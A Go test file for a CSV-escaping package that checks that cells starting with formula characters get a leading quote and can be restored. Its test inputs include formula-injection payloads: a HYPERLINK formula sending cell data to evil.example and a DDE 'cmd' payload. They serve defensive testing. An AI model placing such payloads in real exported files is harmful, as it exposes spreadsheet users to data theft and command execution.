package csvsafe

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

func TestText(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{`+cmd|" /C calc"!A0`, `'+cmd|" /C calc"!A0`},
		{`@SUM(1+1)`, `'@SUM(1+1)`},
		{`-1`, `'-1`},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"\n=1", "'\n=1"},
		{`'=1`, `''=1`},
		{`'`, `''`},
		{``, ``},
		{`doc-7`, `doc-7`},
		{`a=b`, `a=b`},
		{` =1`, ` =1`}, // a leading space makes the cell text in spreadsheets
		{`12`, `12`},
		{`héllo`, `héllo`},
	} {
		if got := Text(c.in); got != c.want {
			t.Errorf("Text(%q) = %q, want %q", c.in, got, c.want)
		}
		if back := Undo(Text(c.in)); back != c.in {
			t.Errorf("Undo(Text(%q)) = %q", c.in, back)
		}
	}
}

// TestThroughCSV: a quoted cell written by encoding/csv and read back is
// the quoted text, which starts with the quote (so no spreadsheet reads a
// formula), and Undo recovers the original.
func TestThroughCSV(t *testing.T) {
	in := []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `+cmd|" /C calc"!A0`, `@SUM(1+1)`, "-1", "\r\n=2"}
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	row := make([]string, len(in))
	for i, s := range in {
		row[i] = Text(s)
	}
	if err := w.Write(row); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	got, err := csv.NewReader(&b).Read()
	if err != nil {
		t.Fatal(err)
	}
	for i, cell := range got {
		if cell == "" || cell[0] != '\'' {
			t.Errorf("cell %d = %q does not start with a quote", i, cell)
		}
		// encoding/csv reads \r\n inside a quoted field as \n.
		if want := strings.ReplaceAll(in[i], "\r\n", "\n"); Undo(cell) != want {
			t.Errorf("cell %d: Undo = %q, want %q", i, Undo(cell), want)
		}
	}
}
